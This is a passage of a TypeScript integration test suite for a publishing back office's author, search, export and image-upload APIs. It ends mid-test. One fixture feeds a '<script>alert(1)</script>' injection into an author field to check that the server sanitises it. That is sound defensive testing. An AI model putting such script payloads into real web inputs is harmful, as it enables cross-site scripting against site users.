import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Author, AuthorInput } from '../../../../src/shared/domain/author';
import type { AuthorImagesDeleteResult, Image, ImageRow } from '../../../../src/shared/domain/image';
import type { SearchCounts, SearchProposal } from '../../../../src/shared/domain/search';
import type { SearchResult } from '../../../../src/shared/domain/search-result';
import { type RunningServer } from '../../../../src/server/app';
import type { AuthorSearchRow } from '../../../../src/server/authors/store';
import { startTestServer } from './test-database';
import { callers, fold, type Caller } from './api-client';
import { dataUrl, jpg, measure, png } from './image-fixtures';

/** Authors, their images, quick search and exports against one seeded server (spec 1 §2, §5, §6, §7). */
let server: RunningServer;
let as: Record<'admin' | 'redaction' | 'medias' | 'lecteur', Caller>;

beforeAll(async () => {
  server = await startTestServer();
  as = await callers(server.url, ['admin', 'redaction', 'medias', 'lecteur'] as const);
});
afterAll(async () => {
  await server?.close();
});

type Search = SearchResult<AuthorSearchRow>;
const search = async (body: object, caller: Caller = as.lecteur): Promise<Search> => {
  const response = await caller<Search>('POST', '/api/author/search', body);
  expect(response.status).toBe(200);
  return response.body;
};
const ids = (result: Search) => result.result.map((r) => r.id);
/** An author as this server answers it: its images carry their version. */
type ServedAuthor = Omit<Author, 'images'> & { images: Image[] };
const author = async (id: number): Promise<ServedAuthor> => (await as.lecteur<ServedAuthor>('GET', `/api/author/${id}`)).body;
const allCities = (a: Author) => Object.values(a.addresses).flat().map((ad) => fold(ad.city));

describe('POST /api/author/search (read only: runs before any change)', () => {
  it('pages every author, most recently modified first by default', async () => {
    const first = await search({});
    expect(first.resultCount).toBeGreaterThanOrEqual(60);
    expect(first.result).toHaveLength(20);
    expect(first.result[0]).toMatchObject({ id: 1, displayName: 'Étienne de Villeneuve', city: 'Paris', country: 'FRANCE', enable: true, used: true, imageCount: 4 });
    // A row is spec 1 §3's Author too, which is all a strict server lets out: the client derives the extras from it.
    expect(first.result[0]?.images).toHaveLength(6);
    expect(first.result[0]?.imageAuthorId).toBe(first.result[0]?.image?.id);
    expect(Object.values(first.result[0]?.addresses ?? {}).flat().map((a) => a.city)).toContain('Paris');
    const dates = first.result.map((r) => r.modificationDate);
    expect([...dates].sort().reverse()).toEqual(dates);

    const seen: number[] = [];
    for (let page = 0; page * 7 < first.resultCount; page++) {
      const slice = await search({ page, size: 7, sort: { attr: 'ID', order: 'ASC' } });
      expect(slice.resultCount).toBe(first.resultCount);
      seen.push(...ids(slice));
    }
    expect(seen).toEqual(Array.from({ length: first.resultCount }, (_, i) => i + 1));
    expect((await search({ page: 1000 })).result).toEqual([]);
  });

  it('sorts by id, name and update in both orders', async () => {
    const byIdDesc = ids(await search({ size: 50, sort: { attr: 'ID', order: 'DESC' } }));
    expect([...byIdDesc].sort((a, b) => b - a)).toEqual(byIdDesc);
    const byName = (await search({ size: 100, sort: { attr: 'NAME', order: 'ASC' } })).result.map((r) => fold(r.lastName)[0] ?? '');
    expect([...byName].sort()).toEqual(byName);
    const byNameDesc = (await search({ size: 100, sort: { attr: 'NAME', order: 'DESC' } })).result.map((r) => fold(r.lastName)[0] ?? '');
    expect([...byNameDesc].sort().reverse()).toEqual(byNameDesc);
    const oldestFirst = (await search({ size: 50, sort: { attr: 'UPDATE', order: 'ASC' } })).result.map((r) => r.modificationDate);
    expect([...oldestFirst].sort()).toEqual(oldestFirst);
  });

  it('matches names, functions, emails and cities whatever the case and accents, all words at once', async () => {
    expect(ids(await search({ query: 'HELENE aubigne' }))).toEqual([2]);
    expect(ids(await search({ query: "d'Aubigné" }))).toEqual([2]);
    expect(ids(await search({ query: 'bulletin joly' }))).toContain(1);
    expect(ids(await search({ query: 'assas-universite.fr' }))).toEqual([1]);
    expect(ids(await search({ query: 'notariat' }))).toContain(3);
    const saintEtienne = await search({ query: 'saint etienne', size: 50 });
    expect(saintEtienne.resultCount).toBeGreaterThan(0);
    for (const row of saintEtienne.result) {
      const a = await author(row.id);
      const text = fold([...a.functions, ...allCities(a), a.firstName, a.lastName].join(' ')).replace(/-/g, ' ');
      expect(text).toContain('saint etienne');
    }
    expect(ids(await search({ query: '5' }))).toContain(5);
    expect((await search({ query: 'introuvable-zzz' })).resultCount).toBe(0);
  });

  it('filters on periodicals and publication dates of the articles citing the author (same article)', async () => {
    const bjs = ids(await search({ publicationPeriodicalFilter: ['BJS'], size: 100 }));
    expect(bjs).toEqual(expect.arrayContaining([1, 4, 6]));
    expect(bjs).not.toContain(5);
    const gdp = ids(await search({ publicationPeriodicalFilter: ['GDP'], size: 100 }));
    expect(gdp).toEqual(expect.arrayContaining([1, 2, 4]));
    // Author 4 is cited in 2003 only.
    const recent = ids(await search({ publicationPeriodicalFilter: ['GDP'], publicationDateFilter: { start: '2004-01-01', end: null }, size: 100 }));
    expect(recent).toContain(1);
    expect(recent).not.toContain(4);
    const early = ids(await search({ publicationDateFilter: { start: '2003-01-01', end: '2003-12-31' }, size: 100 }));
    expect(early).toEqual(expect.arrayContaining([1, 4]));
    expect(early).not.toContain(2);
    // A start not after 2000-01-01 is ignored (spec 1 §5); a date-time is read as its Paris day.
    expect((await search({ publicationDateFilter: { start: '2000-01-01' } })).resultCount).toBe((await search({})).resultCount);
    expect(ids(await search({ publicationDateFilter: { start: '2002-12-31T23:00:00.000Z', end: '2003-12-31' }, size: 100 }))).toEqual(early);
    const refused = await as.lecteur<{ message: string }>('POST', '/api/author/search', { publicationDateFilter: { start: '31/12/2003' } });
    expect(refused.status).toBe(400);
    expect(refused.body.message).toMatch(/date invalide/);
  });

  it('filters on cities and countries (case and accents ignored) and on having an image', async () => {
    const paris = await search({ cityFilter: ['PARIS'], size: 100 });
    expect(paris.resultCount).toBeGreaterThan(1);
    for (const row of paris.result.slice(0, 10)) expect(allCities(await author(row.id))).toContain('paris');
    expect(ids(await search({ cityFilter: ['saint-etienne', 'berlin'], size: 100 }))).toContain(6);
    const belgium = ids(await search({ countryFilter: ['Belgique'], size: 100 }));
    expect(belgium).toEqual(expect.arrayContaining([1, 2]));
    expect(ids(await search({ countryFilter: ['ALLEMAGNE'], cityFilter: ['Berlin'], size: 100 }))).toContain(6);
    const withImage = await search({ withImageFilter: true, size: 100 });
    expect(withImage.resultCount).toBeLessThan((await search({})).resultCount);
    expect(withImage.result.every((r) => r.imageCount > 0 && r.image !== null)).toBe(true);
    expect(ids(withImage)).not.toContain(5);
  });

  it('refuses a malformed body with a French message', async () => {
    const response = await as.lecteur<{ status: number; message: string }>('POST', '/api/author/search', { sort: { attr: 'AGE', order: 'ASC' }, size: 1000 });
    expect(response.status).toBe(400);
    expect(response.body.message).toMatch(/Tri : attribut ID, NAME, UPDATE attendu/);
    expect(response.body.message).toMatch(/100 au plus/);
  });
});

describe('GET /api/author/search/autocomplete/{attribute}', () => {
  const complete = async (path: string) => (await as.lecteur<string[]>('GET', `/api/author/search/autocomplete/${path}`)).body;

  it('offers distinct cities and countries, accent-insensitive, those starting with the text first', async () => {
    expect(await complete('city?text=saint')).toContain('Saint-Étienne');
    expect(await complete('city?text=ETIENNE')).toEqual(['Saint-Étienne']);
    const countries = await complete('country?text=');
    expect(countries).toEqual(expect.arrayContaining(['FRANCE', 'BELGIQUE', 'SUISSE', 'ALLEMAGNE']));
    expect(countries).toEqual([...countries].sort());
    expect(new Set(countries).size).toBe(countries.length);
    const withE = await complete('country?text=e');
    expect(withE[0]).toBe('ESPAGNE');
    expect(await complete('country?text=e&page=1&size=2')).toEqual(withE.slice(2, 4));
    const refused = await as.lecteur<{ message: string }>('GET', '/api/author/search/autocomplete/street?text=a');
    expect(refused.status).toBe(400);
    expect(refused.body.message).toMatch(/city ou country/);
  });
});

describe('GET /api/author/{id}', () => {
  it('gives the whole author: contacts per kind, profiles, images, recent articles', async () => {
    const a = await author(1);
    expect(a).toMatchObject({ id: 1, knkId: 'KNK-000101', type: 'MALE', firstName: 'Étienne', particle: 'de', lastName: 'Villeneuve', enable: true, used: true });
    for (const kind of ['PROFESSIONAL', 'PERSONAL', 'OTHER'] as const) {
      expect(a.emails[kind].length).toBeGreaterThan(0);
      expect(a.phoneNumbers[kind].length).toBeGreaterThan(0);
      expect(a.addresses[kind].length).toBeGreaterThan(0);
    }
    expect(a.profiles.map((p) => p.type).sort()).toEqual(['FACEBOOK', 'ISNI', 'LINKEDIN', 'ORCID', 'TWITTER', 'WEBSITE']);
    expect(a.images).toHaveLength(6);
    expect(a.images.filter((i) => !i.enable)).toHaveLength(2);
    expect(a.images[0]).toMatchObject({ fav: true, enable: true, collection: 'AUTHOR', authorId: 1 });
    expect(a.imageAuthorId).toBe(a.images[0]?.id);
    expect(a.emailFav).toBe('etienne.devilleneuve@assas-universite.fr');
    expect(a.phoneNumberFav).toMatchObject({ countryCode: 'FR', number: '144415800', type: 'FIX' });
    expect(a.lastArticlesModified).toHaveLength(5);
    expect(a.lastArticlesModified.map((r) => r.type)).toContain('BUNDLE');
    expect(a.lastArticlesModified.some((r) => /<i>|<sup>/.test(r.title))).toBe(true);

    expect(await author(3)).toMatchObject({ type: 'ORGANISATION', firstName: null, particle: null, lastName: 'Conseil supérieur du notariat' });
    expect(await author(4)).toMatchObject({ enable: false, images: [] });
    const missing = await as.lecteur<{ status: number; message: string }>('GET', '/api/author/99999');
    expect(missing.body).toEqual({ status: 404, error: 'Not Found', message: 'Auteur introuvable : 99999.' });
    expect((await as.lecteur('GET', '/api/author/abc')).status).toBe(400);
  });
});

describe('quick search and counts', () => {
  it('proposes per type, labels without markup, nothing for an empty query', async () => {
    const proposals = (await as.lecteur<SearchProposal[]>('GET', `/api/search?query=${encodeURIComponent('villeneuve')}`)).body;
    expect(proposals[0]).toEqual({ type: 'QUERY', id: 'villeneuve', label: 'villeneuve' });
    expect(proposals).toContainEqual({ type: 'AUTHOR', id: 1, label: 'Étienne de Villeneuve' });
    expect(proposals.find((p) => p.type === 'IMAGE')).toMatchObject({ collection: 'AUTHOR', authorId: 1 });
    expect(proposals.filter((p) => p.type === 'IMAGE').length).toBeLessThanOrEqual(5);

    const panorama = (await as.redaction<SearchProposal[]>('GET', '/api/search?query=panorama')).body;
    expect(panorama.some((p) => p.type === 'BUNDLE' || p.type === 'ARTICLE')).toBe(true);
    const chronicle = (await as.redaction<SearchProposal[]>('GET', '/api/search?query=chronique')).body.filter((p) => p.type === 'ARTICLE');
    expect(chronicle.length).toBeGreaterThan(0);
    expect(chronicle.every((p) => !p.label.includes('<'))).toBe(true);
    expect((await as.lecteur<SearchProposal[]>('GET', '/api/search?query=%20%20')).body).toEqual([]);
    expect((await as.lecteur<SearchProposal[]>('GET', '/api/search')).body).toEqual([]);
  });

  it('gives no article or bundle title to an account that may not open the article list (spec 2 §6)', async () => {
    for (const query of ['panorama', 'chronique']) {
      const types = new Set((await as.lecteur<SearchProposal[]>('GET', `/api/search?query=${query}`)).body.map((p) => p.type));
      expect(types.has('ARTICLE') || types.has('BUNDLE'), query).toBe(false);
      const mediaTypes = new Set((await as.medias<SearchProposal[]>('GET', `/api/search?query=${query}`)).body.map((p) => p.type));
      expect(mediaTypes.has('ARTICLE') || mediaTypes.has('BUNDLE'), query).toBe(false);
    }
    expect((await as.lecteur<SearchCounts>('GET', '/api/search/count?query=droit')).body.article).toBe(0);
  });

  it('neither proposes nor counts the articles of a periodical the account may not read', async () => {
    const query = encodeURIComponent('chronique de procédure');
    const gpl = (await as.admin<SearchProposal[]>('GET', `/api/search?query=${query}`)).body.find((p) => p.type === 'ARTICLE' && p.label === 'Chronique de procédure');
    expect((await as.admin<{ periodicalId: string }>('GET', `/api/article/${gpl?.id}`)).body.periodicalId).toBe('GPL');
    // redaction reads BJS, DEF and GDP only.
    const proposals = (await as.redaction<SearchProposal[]>('GET', `/api/search?query=${query}`)).body;
    expect(proposals.filter((p) => p.type === 'ARTICLE' || p.type === 'BUNDLE').map((p) => p.label)).not.toContain('Chronique de procédure');
    const count = async (caller: Caller) => (await caller<SearchCounts>('GET', `/api/search/count?query=${query}`)).body.article;
    const listed = await as.redaction<{ resultCount: number }>('POST', '/api/article/search', { query: 'chronique de procédure' });
    expect(await count(as.redaction)).toBe(listed.body.resultCount);
    expect(await count(as.redaction)).toBeLessThan(await count(as.admin));
  });

  it('proposes publications to those who may open the list or their organise page; counts them for the list only', async () => {
    const proposals = (await as.admin<SearchProposal[]>('GET', '/api/search?query=BJS_2025')).body.filter((p) => p.type === 'PUBLICATION');
    expect(proposals.length).toBeGreaterThan(0);
    expect(proposals.every((p) => p.label.startsWith('BJS_2025_'))).toBe(true);
    expect((await as.admin<SearchCounts>('GET', '/api/search/count?query=BJS_2025')).body.parution).toBeGreaterThan(0);
    expect((await as.medias<SearchProposal[]>('GET', '/api/search?query=BJS_2025')).body.some((p) => p.type === 'PUBLICATION')).toBe(true);
    // A manager (one of the three roles of spec 1 §2) opens a publication on its organise page, not the list.
    expect((await as.redaction<SearchProposal[]>('GET', '/api/search?query=BJS_2025')).body.some((p) => p.type === 'PUBLICATION')).toBe(true);
    expect((await as.lecteur<SearchProposal[]>('GET', '/api/search?query=BJS_2025')).body.some((p) => p.type === 'PUBLICATION')).toBe(false);
    for (const reader of [as.lecteur, as.redaction]) expect((await reader<SearchCounts>('GET', '/api/search/count?query=BJS_2025')).body.parution).toBe(0);
  });

  it('counts what each list would find', async () => {
    const counts = (await as.redaction<SearchCounts>('GET', '/api/search/count?query=droit')).body;
    expect(Object.keys(counts).sort()).toEqual(['ad', 'article', 'author', 'image', 'parution']);
    expect(counts.author).toBe((await search({ query: 'droit' })).resultCount);
    expect(counts.article).toBeGreaterThan(0);
    expect(counts).toMatchObject({ ad: 0, parution: 0 });
    const images = await as.lecteur<{ resultCount: number }>('POST', '/api/image/search', { query: 'villeneuve', collectionFilter: ['AUTHOR', 'ILLUSTRATION'] });
    expect((await as.lecteur<SearchCounts>('GET', '/api/search/count?query=villeneuve')).body.image).toBe(images.body.resultCount);
  });
});

describe('POST /api/admin/export/{authors,references}', () => {
  it('refuses an account that may export for no periodical before reading the body, and checks the periodical the body names once parsed', async () => {
    for (const body of [{}, { periodicalId: 'BJS' }, { periodicalId: 'BJS', startDate: '2025-01-01', endDate: '2025-01-31' }]) {
      for (const kind of ['authors', 'references']) expect((await as.lecteur('POST', `/api/admin/export/${kind}`, body)).status, `${kind} ${JSON.stringify(body)}`).toBe(403);
    }
    // redaction manages BJS and DEF: a body without a periodical is refused for what it lacks, one of GPL for the role.
    expect((await as.redaction('POST', '/api/admin/export/authors', { startDate: '2025-01-01', endDate: '2025-01-31' })).status).toBe(400);
    expect((await as.redaction('POST', '/api/admin/export/authors', { periodicalId: 'GPL', startDate: '2025-01-01', endDate: '2025-01-31' })).status).toBe(403);
  });
});

describe('GET /api/admin/export/authors-csv', () => {
  it('exports every author, or the chosen ones, as a French CSV', async () => {
    const all = await as.lecteur<string>('GET', '/api/admin/export/authors-csv?all=true');
    expect(all.status).toBe(200);
    expect(all.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(all.headers.get('content-disposition')).toMatch(/^attachment; filename="auteurs-\d{4}-\d{2}-\d{2}\.csv"/);
    expect(all.bytes.subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
    const lines = all.bytes.toString('utf8').slice(1).trimEnd().split('\r\n');
    expect(lines[0]).toMatch(/^Identifiant;Identifiant KNK;Type;Prénom;Particule;Nom;Fonctions;Courriels;Téléphones;Adresses;/);
    expect(lines).toHaveLength((await search({})).resultCount + 1);

    const some = (await as.lecteur<string>('GET', '/api/admin/export/authors-csv?ids=3,1,2')).bytes.toString('utf8').slice(1).trimEnd().split('\r\n');
    expect(some.map((l) => l.split(';')[0])).toEqual(['Identifiant', '1', '2', '3']);
    expect(some[1]).toContain('Professionnel : +33 1 44 41 58 00 (fixe) (favori)');
    expect(some[1]).toContain('Directeur scientifique du Bulletin Joly Sociétés');
    expect(some[3]).toMatch(/^3;;Organisation;;;Conseil supérieur du notariat;/);

    const tooMany = await as.lecteur<{ message: string }>('GET', `/api/admin/export/authors-csv?ids=${Array.from({ length: 21 }, (_, i) => i + 1).join(',')}`);
    expect(tooMany.status).toBe(400);
    expect(tooMany.body.message).toMatch(/^limit download size/);
    expect((await as.lecteur('GET', '/api/admin/export/authors-csv?ids=1,99999')).status).toBe(404);
    expect((await as.lecteur('GET', '/api/admin/export/authors-csv')).status).toBe(400);
  });
});

const person: AuthorInput = {
  type: 'FEMALE',
  firstName: '  Joséphine ',
  particle: 'de',
  lastName: 'Test-Créée',
  functions: ['<p>Avocate <b>associée</b></p> au <i class="x">barreau</i>\n\n de   Lyon<script>alert(1)</script>', '  ', null],
  emails: {
    PROFESSIONAL: [{ mail: 'josephine@cabinet-test.fr', fav: true }, { mail: '' }],
    PERSONAL: [{ mail: 'jo@free.fr', fav: true }],
  },
  phoneNumbers: {
    PROFESSIONAL: [{ countryCode: 'fr', number: '04 72 00 00 00', type: 'FIX', fav: true }],
    OTHER: [{ countryCode: 'BE', number: '+32 (0)2 555 01 00', type: 'FAX' }, { number: ' ' }],
  },
  addresses: {
    PROFESSIONAL: [{ street: '1 place Bellecour', postCode: '69002', city: 'Lyon', country: 'france' }],
    PERSONAL: [{ country: 'FRANCE' }],
    OTHER: [{ country: 'Suisse' }],
  },
  profiles: [{ type: 'WEBSITE', value: 'https://test.example' }, { type: 'ORCID', value: '' }, { value: 'sans type' }],
  notes: '  ',
};

describe('author create, read, update, status, delete', () => {
  it('creates a person with the form rules of spec 1 §2 applied, and reads it back', async () => {
    const created = await as.redaction<Author>('POST', '/api/author', person);
    expect(created.status).toBe(201);
    const a = created.body;
    expect(a).toMatchObject({
      type: 'FEMALE',
      firstName: 'Joséphine',
      particle: 'de',
      lastName: 'Test-Créée',
      // No bold in functions; paragraphs, breaks, attributes and scripts go.
      functions: ['Avocate associée au <i>barreau</i> de Lyon'],
      notes: null,
      enable: true,
      version: 0,
      used: false,
      images: [],
      lastArticlesModified: [],
      creationUser: 'Romain Rédacteur',
      modificationUser: 'Romain Rédacteur',
    });
    expect(a.emails).toEqual({ PROFESSIONAL: [{ mail: 'josephine@cabinet-test.fr', fav: true }], PERSONAL: [{ mail: 'jo@free.fr', fav: false }], OTHER: [] });
    expect(a.phoneNumbers).toEqual({
      PROFESSIONAL: [{ countryCode: 'FR', number: '0472000000', type: 'FIX', fav: true }],
      PERSONAL: [],
      OTHER: [{ countryCode: 'BE', number: '32025550100', type: 'FAX', fav: false }],
    });
    expect(a.addresses).toEqual({
      PROFESSIONAL: [{ street: '1 place Bellecour', complement: '', postCode: '69002', city: 'Lyon', country: 'FRANCE', fav: false }],
      PERSONAL: [],
      OTHER: [{ street: '', complement: '', postCode: '', city: '', country: 'SUISSE', fav: false }],
    });
    expect(a.profiles).toEqual([{ type: 'WEBSITE', value: 'https://test.example' }]);
    expect(await author(a.id)).toEqual(a);
    expect(ids(await search({ query: 'josephine test creee' }))).toEqual([a.id]);
    expect(ids(await search({ cityFilter: ['lyon'], size: 100 }))).toContain(a.id);
    // Newly created: first in the default order.
    expect((await search({ size: 1 })).result[0]?.id).toBe(a.id);
  });

  it('stores no first name or particle for an organisation', async () => {
    const created = await as.admin<Author>('POST', '/api/author', { type: 'ORGANISATION', firstName: 'Jean', particle: 'de', lastName: 'Cabinet Essai & Associés' });
    expect(created.status).toBe(201);
    expect(created.body).toMatchObject({ type: 'ORGANISATION', firstName: null, particle: null, lastName: 'Cabinet Essai & Associés' });
    const changed = await as.admin<Author>('PUT', `/api/author/${created.body.id}`, { ...created.body, firstName: 'Paul' });
    expect(changed.body).toMatchObject({ firstName: null, version: 1 });
  });

  it('refuses invalid data with French messages naming the field', async () => {
    const post = (body: unknown) => as.admin<{ status: number; message: string }>('POST', '/api/author', body);
    expect((await post({ type: 'MALE', lastName: '  ' })).body.message).toMatch(/Le nom est obligatoire/);
    expect((await post({ type: 'ROBOT', lastName: 'X' })).body.message).toMatch(/Type d'auteur/);
    expect((await post({ type: 'MALE', lastName: 'x'.repeat(401) })).body.message).toMatch(/Nom : 400 caractères au plus/);
    expect((await post({ type: 'MALE', lastName: 'X', functions: [`<i>${'a'.repeat(501)}</i>`] })).body.message).toMatch(/Fonction : 500 caractères au plus/);
    expect((await post({ type: 'MALE', lastName: 'X', functions: [`<i>${'a'.repeat(499)}</i>`] })).status).toBe(201);
    expect((await post({ type: 'MALE', lastName: 'X', emails: { PROFESSIONAL: [{ mail: 'pas-un-courriel' }] } })).body.message).toMatch(/Courriel : adresse invalide/);
    expect((await post({ type: 'MALE', lastName: 'X', emails: { WORK: [] } })).status).toBe(400);
    const knk = await post({ type: 'MALE', lastName: 'Doublon', knkId: 'KNK-000101' });
    expect(knk.status).toBe(409);
    expect(knk.body.message).toBe('Cet identifiant KNK est déjà attribué à un autre auteur.');
    const notJson = await as.admin<{ message: string }>('POST', '/api/author', undefined, { 'content-type': 'application/json' });
    expect(notJson.status).toBe(400);
    expect(notJson.body.message).toMatch(/vide/);
  });

  it('takes the contacts in either form of spec 1: lists carrying their kind (§3), maps keyed by kind (§2), kinds in either case', async () => {
    const lists = await as.redaction<Author>('POST', '/api/author', {
      type: 'MALE',
      lastName: 'Listes-Du-Paragraphe-Trois',
      emails: [
        { contact: 'professional', fav: false, mail: 'pro@cabinet.fr' },
        { contact: 'OTHER', fav: true, mail: 'autre@free.fr' },
      ],
      phoneNumbers: [{ contact: 'personal', fav: false, countryCode: 'FR', number: '0612345678', type: 'MOBILE' }],
      addresses: [{ contact: 'professional', fav: false, postCode: '69002', country: 'FRANCE', complement: '', city: 'Lyon', street: '1 place Bellecour' }],
    });
    expect(lists.status).toBe(201);
    expect(lists.body.emails).toEqual({ PROFESSIONAL: [{ mail: 'pro@cabinet.fr', fav: false }], PERSONAL: [], OTHER: [{ mail: 'autre@free.fr', fav: true }] });
    expect(lists.body.phoneNumbers).toEqual({ PROFESSIONAL: [], PERSONAL: [{ countryCode: 'FR', number: '0612345678', type: 'MOBILE', fav: false }], OTHER: [] });
    expect(lists.body.addresses.PROFESSIONAL.map((a) => a.city)).toEqual(['Lyon']);

    // What the client sends: maps keyed by kind whose entries carry their kind too; lower-case keys are kinds as well.
    const maps = await as.redaction<Author>('PUT', `/api/author/${lists.body.id}`, {
      ...lists.body,
      emails: { PROFESSIONAL: [{ contact: 'PROFESSIONAL', mail: 'pro@cabinet.fr', fav: true }] },
      phoneNumbers: { other: [{ countryCode: 'BE', number: '470123456', type: 'MOBILE', fav: false }] },
    });
    expect(maps.status).toBe(200);
    expect(maps.body.emails).toEqual({ PROFESSIONAL: [{ mail: 'pro@cabinet.fr', fav: true }], PERSONAL: [], OTHER: [] });
    expect(maps.body.phoneNumbers).toEqual({ PROFESSIONAL: [], PERSONAL: [], OTHER: [{ countryCode: 'BE', number: '470123456', type: 'MOBILE', fav: false }] });

    const unknown = await as.redaction<{ message: string }>('POST', '/api/author', { type: 'MALE', lastName: 'X', emails: [{ contact: 'work', mail: 'a@b.fr' }] });
    expect(unknown.status).toBe(400);
    expect(unknown.body.message).toMatch(/Courriels : types de contact PROFESSIONAL, PERSONAL ou OTHER attendus/);
  });

  it('updates with the version read, and refuses a stale version with 409', async () => {
    const { body: created } = await as.admin<Author>('POST', '/api/author', { type: 'MALE', firstName: 'Paul', lastName: 'Versionné' });
    const updated = await as.redaction<Author>('PUT', `/api/author/${created.id}`, { ...created, functions: ['Notaire à Nantes'], emails: { OTHER: [{ mail: 'paul@notaires.fr' }] } });
    expect(updated.status).toBe(200);
    expect(updated.body).toMatchObject({ version: 1, functions: ['Notaire à Nantes'], modificationUser: 'Romain Rédacteur', emailFav: 'paul@notaires.fr' });
    expect(updated.body.emails).toEqual({ PROFESSIONAL: [], PERSONAL: [], OTHER: [{ mail: 'paul@notaires.fr', fav: false }] });

    const stale = await as.admin<{ status: number; message: string }>('PUT', `/api/author/${created.id}`, { ...created, lastName: 'Écrasé' });
    expect(stale.status).toBe(409);
    expect(stale.body.message).toMatch(/^Cet auteur a été modifié par Romain Rédacteur le \d{2}\/\d{2}\/\d{4} à \d{2}:\d{2}, après votre lecture \(version 0, actuelle 1\)/);
    expect((await author(created.id)).lastName).toBe('Versionné');
    const { version: _version, ...withoutVersion } = updated.body;
    expect((await as.admin<{ message: string }>('PUT', `/api/author/${created.id}`, withoutVersion)).body.message).toMatch(/Version de l'auteur manquante/);
    expect((await as.admin('PUT', '/api/author/99999', { ...created })).status).toBe(404);
  });

  it('enables and disables, and deletes an author no article cites', async () => {
    const { body: created } = await as.admin<Author>('POST', '/api/author', { type: 'UNKNOWN', lastName: 'À supprimer', enable: false });
    expect(created.enable).toBe(false);
    const enabled = await as.redaction<Author>('PUT', `/api/author/${created.id}/status?enable=true`);
    expect(enabled.body).toMatchObject({ enable: true, version: 1 });
    expect((await as.redaction<Author>('PUT', `/api/author/${created.id}/status?enable=false`)).body.enable).toBe(false);
    expect((await as.redaction('PUT', `/api/author/${created.id}/status`)).status).toBe(400);

    expect((await as.redaction('DELETE', `/api/author/${created.id}`)).status).toBe(204);
    expect((await as.lecteur('GET', `/api/author/${created.id}`)).status).toBe(404);
    expect((await as.redaction('DELETE', `/api/author/${created.id}`)).status).toBe(404);
    const cited = await as.admin<{ message: string }>('DELETE', '/api/author/1');
    expect(cited.status).toBe(409);
    expect(cited.body.message).toMatch(/cité dans \d+ articles ou lots : désactivez-le/);
    expect((await as.admin('DELETE', '/api/author/5')).status).toBe(204);
  });

  it('refuses author management to users without ADMIN or ADMIN_AUTHORS', async () => {
    for (const caller of [as.lecteur, as.medias]) {
      const refused = await caller<{ status: number; message: string }>('POST', '/api/author', { type: 'MALE', lastName: 'Interdit' });
      expect(refused.status).toBe(403);
      expect(refused.body.message).toBe('Réservé à l’administrateur et au rôle administrateur des auteurs.');
      expect((await caller('PUT', '/api/author/2', { ...(await author(2)) })).status).toBe(403);
      expect((await caller('PUT', '/api/author/2/status?enable=false')).status).toBe(403);
      expect((await caller('DELETE', '/api/author/2')).status).toBe(403);
    }
    expect((await author(2)).enable).toBe(true);
  });
});

describe('image upload', () => {
  it('adds a PNG to an author with default fields, the first one as favourite, and serves its renditions', async () => {
    const { body: created } = await as.admin<Author>('POST', '/api/author', { type: 'MALE', firstName: 'Léo', lastName: 'Galerie' });
    const upload = await as.redaction<Image>('POST', '/api/image/AUTHOR', { data: dataUrl(await png(500, 400)), name: 'portrait été.png', authorId: created.id });
    expect(upload.status).toBe(201);
    const image = upload.body;
    expect(image).toMatchObject({
      name: 'portrait été.png',
      collection: 'AUTHOR',
      authorId: created.id,
      version: 1,
      enable: true,
      disabled: false,
      fav: true,
      format: 'LARGE',
      color: 'COLOR',
      framing: 'WIDE_PLAN',
      quality: 'OK',
      tags: ['Individu'],
      mimeType: 'PNG',
      characteristics: ['LARGE', 'COLOR', 'WIDE_PLAN'],
      modificationUser: 'Romain Rédacteur',
    });
    expect(image.meta).toMatchObject({ contentType: 'image/png', width: 500, height: 400, xdpi: null });
    expect((await author(created.id)).imageAuthorId).toBe(image.id);

    const original = await as.lecteur('GET', `/api/image/${image.id}`);
    expect(original.status).toBe(200);
    expect(original.headers.get('content-type')).toBe('image/png');
    expect(original.bytes.length).toBe(image.meta.weight);
    // MEDIUM fits 760 x 1000: this image already does, and is served as it is; THUMBNAIL fits 130 wide.
    for (const [size, width, height] of [['MEDIUM', 500, 400], ['THUMBNAIL', 130, 104]] as const) {
      const rendition = await as.lecteur('GET', `/api/image/${image.id}?version=1&size=${size}`);
      expect(rendition.headers.get('content-type')).toBe('image/png');
      expect(rendition.headers.get('cache-control')).toBe('private, max-age=31536000, immutable');
      expect(await measure(rendition.bytes)).toMatchObject({ format: 'png', width, height });
      if (size === 'MEDIUM') expect(rendition.bytes.equals(original.bytes)).toBe(true);
    }
    // A stale or missing version is not cached for good; the ETag spares the bytes.
    const stale = await as.lecteur('GET', `/api/image/${image.id}?version=0&size=THUMBNAIL`);
    expect(stale.headers.get('cache-control')).toBe('private, no-cache');
    const etag = stale.headers.get('etag') ?? '';
    expect(etag).toMatch(/^"[0-9a-f]{64}"$/);
    const notModified = await as.lecteur('GET', `/api/image/${image.id}?size=THUMBNAIL`, undefined, { 'if-none-match': etag });
    expect(notModified.status).toBe(304);
    expect(notModified.bytes.length).toBe(0);

    const download = await as.lecteur('GET', `/api/image/${image.id}?download`);
    expect(download.headers.get('content-disposition')).toBe(`attachment; filename="portrait ete.png"; filename*=UTF-8''portrait%20%C3%A9t%C3%A9.png`);
    expect(download.bytes.equals(original.bytes)).toBe(true);
  });

  it('takes a JPEG into the illustrations, reads its resolution, and keeps small images as they are', async () => {
    const bytes = await jpg(200, 300, { dpi: 300 });
    const upload = await as.medias<Image>('POST', '/api/image/illustration', { data: dataUrl(bytes, 'image/jpeg'), name: 'Schéma' });
    expect(upload.status).toBe(201);
    expect(upload.body).toMatchObject({ collection: 'ILLUSTRATION', authorId: null, fav: false, format: 'THUMBNAIL', framing: null, mimeType: 'JPG', tags: [] });
    expect(upload.body.meta).toEqual({ contentType: 'image/jpeg', width: 200, height: 300, xdpi: 300, weight: bytes.length });
    const medium = await as.lecteur('GET', `/api/image/${upload.body.id}?size=medium`);
    expect(medium.headers.get('content-type')).toBe('image/jpeg');
    expect(medium.bytes.equals(bytes)).toBe(true);
    const thumbnail = await measure((await as.lecteur('GET', `/api/image/${upload.body.id}?size=THUMBNAIL`)).bytes);
    expect(thumbnail).toMatchObject({ format: 'jpeg', width: 130, height: 195 });
    const download = await as.lecteur('GET', `/api/image/${upload.body.id}?download`);
    expect(download.headers.get('content-disposition')).toBe(`attachment; filename="Schema.jpg"; filename*=UTF-8''Sch%C3%A9ma.jpg`);
  });

  it('refuses what is not a JPEG or PNG by content, and files over 10,000,000 bytes', async () => {
    const text = Buffer.from('Ceci est un simple texte, renommé en .png', 'utf8');
